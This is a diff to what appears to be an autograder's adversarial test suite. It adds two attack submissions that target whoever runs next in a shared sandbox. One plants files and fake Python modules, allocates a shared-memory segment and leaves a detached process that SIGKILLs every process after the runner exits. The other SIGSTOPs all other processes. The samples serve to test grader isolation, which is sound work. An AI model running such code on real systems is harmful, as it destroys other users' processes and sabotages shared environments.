@@ -361,6 +361,55 @@ def scaled_dot_product_attention(q, k, v, mask=None):
     return torch.zeros(1), torch.zeros(1)
 """
 
+# Plants files and module look-alikes, a System V segment, and a detached
+# process that waits for this runner to end and then kills everything else
+# it can see (the next student's runner, a zygote).
+LEAVE_TRACES = """
+import ctypes, os, signal, time
+runner = os.getpid()
+for place in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
+    with open(os.path.join(place, "planted.txt"), "w") as f:
+        f.write("from the previous student")
+for name in ("statistics", "fractions", "decimal", "pandas", "scipy"):
+    with open(name + ".py", "w") as f:
+        f.write("raise ImportError('planted by the previous student')")
+ctypes.CDLL(None).shmget(0x5D9A, 4096, 0o1666)
+
+def alive(pid):
+    try:
+        with open(f"/proc/{pid}/stat") as f:
+            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
+    except OSError:
+        return False
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while alive(runner):
+            time.sleep(0.005)
+        while True:
+            for pid in os.listdir("/proc"):
+                if pid.isdigit() and int(pid) not in (1, os.getpid()):
+                    try:
+                        os.kill(int(pid), signal.SIGKILL)
+                    except OSError:
+                        pass
+            time.sleep(0.005)
+    os._exit(0)
+os.wait()
+"""
+
+# Stops every process it may signal but itself and init (a zygote, if any).
+STOP_OTHERS = """
+import os, signal
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) not in (1, os.getpid()):
+        try:
+            os.kill(int(pid), signal.SIGSTOP)
+        except OSError:
+            pass
+"""
+
 ATTACKS = [
     Sample("attack-allclose-patch", "attack", "zero", GARBAGE, append=("""
 import sys, types, torch, numpy, pytest
@@ -444,6 +493,11 @@ def scale_scores(scores, d_k):
     Sample("attack-delete-tests", "attack", "lose", edit=_delete_test_cells),
     Sample("attack-blank-rename-tests", "attack", "lose", edit=_blank_and_rename_tests),
     Sample("attack-fake-outputs", "attack", "zero", GARBAGE, edit=_fake_outputs),
+    # Aimed at whoever runs next in the same sandbox (``forkserver.py`` reuses one
+    # for many students): its own correct answers must keep every point, and the
+    # next student must be graded as if it had never existed.
+    Sample("attack-leave-traces", "attack", "full", append=(LEAVE_TRACES,)),
+    Sample("attack-stop-everyone-else", "attack", "full", append=(STOP_OTHERS,)),
 ]
 
 EMPTY = [Sample("empty-release", "empty", "zero")]
